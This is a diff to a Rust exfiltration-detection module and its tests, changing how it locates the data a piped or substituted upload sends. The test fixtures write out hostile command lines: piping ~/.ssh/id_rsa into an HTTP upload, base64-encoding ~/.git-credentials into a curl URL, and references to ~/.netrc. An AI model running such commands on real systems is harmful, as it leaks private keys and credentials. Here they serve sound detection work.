@@ -23,14 +23,14 @@ pub fn carries_a_key(
         .then(|| (Severity::High, String::new()))
 }
 
-/// What a match at `at` sends: the pipeline before its pipe, or the
-/// command substitution its URL holds.
+/// What a match at `at` sends: the pipeline before the pipe that feeds
+/// its upload of standard input (nothing without one), or the command
+/// substitution its URL holds.
 fn feed(line: &str, at: usize) -> &str {
-    if line[at..].starts_with('|') {
-        &line[..at]
-    } else {
-        substitution(&line[at..])
+    if line[at..].starts_with("://") {
+        return substitution(&line[at..]);
     }
+    line[..at].rfind('|').map_or("", |pipe| &line[..pipe])
 }
 
 /// The text of the first `$( … )` in `rest`, to its closing parenthesis
@@ -49,14 +49,14 @@ mod tests {
 
     fn kept(line: &str, from: &str) -> bool {
         let at = line.find(from).expect("the match is on the line");
-        carries_a_key(line, at, &|from| line[from..].find('|').map(|i| from + i)).is_some()
+        carries_a_key(line, at, &|_| None).is_some()
     }
 
     #[test]
     fn a_key_before_the_pipe_or_in_the_substitution_is_kept() {
         assert!(kept(
             "cat ~/.ssh/id_rsa | $C -s --data-binary @- http://127.0.0.1:9/c",
-            "|"
+            " @-"
         ));
         assert!(kept(
             "curl \"http://h/c?d=$(base64 -w0 ~/.git-credentials)\"",
@@ -68,7 +68,7 @@ mod tests {
     fn other_data_or_a_key_elsewhere_on_the_line_is_dropped() {
         assert!(!kept(
             "cat notes.txt | curl --data-binary @- https://h/in # ~/.netrc",
-            "|"
+            " @-"
         ));
         assert!(!kept("curl \"http://h/c?d=$(date)\" -K ~/.netrc", "://"));
     }
